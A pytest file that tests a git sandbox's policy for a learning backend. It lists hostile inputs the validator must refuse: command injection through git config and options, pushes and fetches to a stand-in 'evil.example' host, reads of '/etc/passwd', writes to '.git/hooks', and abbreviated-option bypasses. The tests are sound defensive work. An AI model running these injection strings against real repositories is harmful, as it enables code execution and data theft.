"""The replay is a security boundary: every refusal, and no false refusal of ordinary commands."""

from __future__ import annotations

import tempfile
from pathlib import Path

import pytest
from git_fixtures import build_level, git_levels, level

from learnbackend.errors import ExitCode, RefusedError
from learnbackend.gitsandbox.replay import replay, validate
from learnbackend.gitsandbox.solution import parse_solution

REFUSED = [
    # global options that change what git runs or where
    ("git -c core.pager='sh -c id' log", "configuration overrides"),
    ("git -c core.sshCommand=evil push", "configuration overrides"),
    ("git --config-env=core.editor=EDITOR commit", "configuration overrides"),
    ("git --exec-path=/tmp/evil status", "global option"),
    ("git --git-dir=/etc status", "global option"),
    ("git --work-tree=/ status", "global option"),
    ("git -C .. status", "top of the working repository"),
    ("git -C sub status", "top of the working repository"),
    ("git -Csub status", "top of the working repository"),
    ("git --git-d=sub status", "global option"),
    # aliases and subcommands that run programs
    ("git '!sh -c id'", "shell aliases"),
    ("git co main", "aliases"),
    ("git difftool", "external diff program"),
    ("git mergetool", "external merge program"),
    ("git submodule add ../remote.git sub", "submodules"),
    ("git clone ../remote.git copy", "already has its repositories"),
    ("git help log", "pager or a browser"),
    ("git grep -O evil x", "pager"),
    ("git bisect run sh -c id", "executes programs"),
    # configuration that executes programs
    ("git config alias.co '!sh -c id'", "aliases are refused"),
    ("git config core.pager 'sh -c id'", "run programs"),
    ("git config core.sshCommand 'sh -c id'", "run programs"),
    ("git config core.editor vim", "run programs"),
    ("git config core.fsmonitor 'sh -c id'", "run programs"),
    ("git config core.hooksPath .", "run programs"),
    ("git config --global user.name Eve", "only `git config KEY VALUE`"),
    ("git config --file x user.name Eve", "only `git config KEY VALUE`"),
    ("git config branch.main.remote evil", "reach other places"),
    ("git config remote.origin.url evil.example:x.git", "reach other places"),
    # options that run programs
    ("git push --receive-pack='sh -c id' origin", "runs a program"),
    ("git fetch --upload-pack=evil origin", "runs a program"),
    ("git push --exec=evil origin", "runs a program"),
    ("git rebase --exec 'sh -c id' main", "runs a program"),
    ("git rebase -x id main", "interactive"),
    ("git rebase -i HEAD~2", "interactive"),
    ("git add -p", "interactive"),
    ("git add --interactive", "interactive"),
    ("git commit -S -m signed", "signing"),
    ("git commit -aSm signed", "signing"),
    ("git commit --gpg-sign=KEY -m x", "signing"),
    ("git tag -s v1 -m x", "signing"),
    ("git push --signed origin main", "runs a program"),
    ("git merge -s evil feature", "custom merge strategies"),
    ("git merge --strategy=evil feature", "custom merge strategies"),
    ("git pull -sevil", "custom merge strategies"),
    ("git diff --output=report.txt", "writes outside"),
    ("git log --output=.git/config", "writes outside"),
    # git expands any unique prefix of a long option: abbreviations of dangerous options (red-team finding)
    ("git fetch '--upload-pac=x; touch proof; git-upload-pack' ../remote.git", "abbreviation of --upload-pack"),
    ("git push '--receive-pac=touch proof' origin", "runs a program"),
    ("git push --exe=evil origin", "runs a program"),
    ("git rebase '--exe=touch proof' --root", "runs a program"),
    ("git log --outp=x", "writes outside"),
    ("git commit --gpg=KEY -m x", "signing"),
    ("git add --inter", "interactive"),
    ("git pull --rebase=interactive", "interactive"),
    ("git pull -ri", "interactive"),
    ("git fetch --recurse-submodules=yes", "other programs, repositories"),
    ("git push --repo=sub", "other programs, repositories"),
    # options that are not on the subcommand's allow-list, or abbreviated
    ("git commit --frobnicate -m x", "--frobnicate is not an option `git commit` may use"),
    ("git status -X", "-X is not an option `git status` may use"),
    ("git diff --stag", "write it in full (--staged)"),
    ("git log -n --exec=evil", "attached to its option"),
    ("git add --verbose=yes notes.md", "takes no value"),
    # a repository the solution wrote itself is not a remote (red-team finding: its config runs commands)
    ("git push ./sub HEAD:refs/heads/x", "the only repository"),
    ("git fetch sub/ main", "the only repository"),
    ("git remote add evil sub", "the only repository"),
    ("git remote set-url origin ../remote.git/../work/sub", "the only repository"),
    # non-file transports
    ("git push ssh://evil.example/repo main", "only paths inside the sandbox"),
    ("git fetch https://evil.example/repo", "only paths inside the sandbox"),
    ("git pull 'ext::sh -c id'", "only paths inside the sandbox"),
    ("git fetch evil.example:repo.git", "only paths inside the sandbox"),
    ("git fetch file:///etc", "only paths inside the sandbox"),
    ("git remote add evil git@evil.example:x.git", "only paths inside the sandbox"),
    ("git remote set-url origin /tmp/other.git", "absolute"),
    ("git push ../../elsewhere.git main", "outside the sandbox"),
    # paths outside the sandbox or inside .git
    ("git add /etc/passwd", "absolute"),
    ("git add ../../outside.txt", "outside the sandbox"),
    ("git add ~/notes.txt", "absolute paths and ~"),
    ("git commit -F /etc/passwd", "absolute"),
    ("git checkout .git/config", ".git"),
    ("write /tmp/evil.txt 'x'", "absolute"),
    ("write ../escape.txt 'x'", "outside the working repository"),
    ("write ../remote.git/hooks/post-receive 'x'", "outside the working repository"),
    ("write .git/hooks/pre-commit '#!/bin/sh\\nid\\n'", ".git"),
    ("append .GIT/config '[core]\\n'", ".git"),
    ("write .g\u200cit/config '[core]\\n'", ".git"),
    ("write '.git. /config' '[core]\\n'", ".git"),
    ("write GIT~1/config '[core]\\n'", ".git"),
    ("delete ../gitconfig", "outside the working repository"),
    ("write sub/../../escape.txt 'x'", "outside the working repository"),
    # not git at all
    ("sh -c id", "not allowed"),
    ("rm -rf /", "not allowed"),
    ("bash", "not allowed"),
]

ALLOWED = [
    "git status", "git add -A", "git add notes.md", "git commit -am 'fix: /api path and ../ docs'",
    "git commit -m -p", "git log --oneline main..origin/main", "git log --grep=/api -n 3",
    "git remote add upstream ../remote.git", "git fetch ../remote.git", "git push -u origin feature/x",
    "git merge -X ours feature", "git merge -s ours feature", "git merge --no-edit feature",
    "git show HEAD:.gitignore", "git config user.name 'Ada Lovelace'", "git config --get user.email",
    "git config pull.rebase false", "git stash push -m wip", "git restore --staged secrets.env",
    "git reset --hard HEAD~1", "git checkout -b feature", "git switch -c feature/search",
    "git diff --staged", "git tag -a v1 -m 'first release'", "git pull --rebase",
    "git --no-pager log", "git branch -u origin/main", "git log -3 --format=%h --grep=discount", "git status -uno",
    "git diff -U5 --word-diff=color", "git push --force-with-lease origin HEAD", "git checkout -- notes.md",
    "git pull --rebase=merges", "git log --end-of-options main", "git diff --color-words",
    "git push origin --delete x", "git log --left-right --oneline main...origin/main", "git stash push -u -m wip",
    "git restore --source=HEAD~1 notes.md", "git branch --set-upstream-to=origin/main", "git shortlog -sn", "write docs/notes.md 'hello\\n'", "delete notes.md", "append a.txt 'x'",
]


def _refusal(text: str) -> RefusedError:
    from learnbackend.gitsandbox.handler import replay_and_check

    ref = level("stage-a-file")
    with pytest.raises(RefusedError) as caught:
        replay_and_check(ref.key, ref.level, f"git status\n{text}\n")
    return caught.value


@pytest.mark.parametrize("line,reason", REFUSED, ids=[line for line, _ in REFUSED])
def test_unsafe_lines_are_refused_with_a_clear_error(line: str, reason: str) -> None:
    error = _refusal(line)
    assert error.exit_code == ExitCode.BAD_INPUT
    assert reason.lower() in error.message.lower(), error.message
    assert error.fix


@pytest.mark.parametrize("line", ALLOWED)
def test_ordinary_commands_are_not_refused(line: str) -> None:
    validate(parse_solution(line))


def test_every_reference_solution_passes_the_policy() -> None:
    for ref in git_levels():
        validate(parse_solution("\n".join(ref.level.solution)))


def test_a_refused_solution_runs_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Refusal happens before the sandbox is built: no file written, no temporary directory left."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    _refusal("write proof.txt 'ran'\ngit -c core.pager=evil log")
    assert list(tmp_path.iterdir()) == []


def test_file_operations_do_not_follow_symbolic_links(tmp_path: Path) -> None:
    sandbox = build_level("stage-a-file", tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    (sandbox.work / "link").symlink_to(outside)
    (sandbox.work / "filelink").symlink_to(outside / "target.txt")
    for line in ("write link/evil.txt 'x'", "write filelink 'x'", "delete filelink"):
        with pytest.raises(RefusedError):
            replay(sandbox, parse_solution(line), timeout=10)
    assert list(outside.iterdir()) == []


def test_each_replay_has_a_deadline(tmp_path: Path) -> None:
    from learnbackend.gitsandbox.handler import replay_and_check

    ref = level("stage-a-file")
    result = replay_and_check(ref.key, ref.level, "git status\n" * 400, timeout=0.3)
    assert result.status == "error"
    assert "did not finish within" in result.message
    assert result.details["replay"]["timed_out"] is True


def test_the_replay_ignores_the_users_git_configuration(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A hostile global config (alias, pager, hooks, default branch) has no effect on the sandbox."""
    from learnbackend.gitsandbox.handler import replay_and_check

    proof = tmp_path / "hook-ran"
    hooks = tmp_path / "hooks"
    hooks.mkdir()
    for hook in ("pre-commit", "post-commit", "pre-push", "post-checkout"):
        (hooks / hook).write_text(f"#!/bin/sh\ntouch {proof}\n")
        (hooks / hook).chmod(0o755)
    config = tmp_path / "hostile.gitconfig"
    config.write_text(f"[init]\n\tdefaultBranch = master\n[core]\n\thooksPath = {hooks}\n\tpager = touch {proof}\n"
                      f"\tfsmonitor = touch {proof}\n[alias]\n\tstatus = !touch {proof}\n")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(config))
    monkeypatch.delenv("GIT_CONFIG_NOSYSTEM", raising=False)
    ref = level("first-push")
    result = replay_and_check(ref.key, ref.level, "git status\ngit commit --allow-empty -m again\ngit push\n")
    assert result.passed, result.message
    sandbox = build_level("first-push", tmp_path)
    assert (sandbox.remote / "refs" / "heads" / "main").exists() or "main" in (sandbox.remote / "packed-refs").read_text()
    assert not proof.exists()


#: Allowed options that are also the start of a dangerous one: each is an exact option of its
#: subcommand in git, and git takes an exact name before expanding an abbreviation (reviewed by hand).
EXACT_NOT_ABBREVIATIONS = {"--verify", "--local", "--patch", "--text", "--edit"}


def test_no_allowed_option_could_be_read_as_a_dangerous_one() -> None:
    from learnbackend.gitsandbox.gitoptions import DANGEROUS, SPECS

    for sub, spec in SPECS.items():
        for name in spec.longs:
            near = [d for d in DANGEROUS if d.startswith(name)]
            assert not near or name in EXACT_NOT_ABBREVIATIONS, (sub, name, near)
            assert name not in DANGEROUS or (name == "--patch" and sub in ("diff", "log", "show", "reflog")), (sub, name)
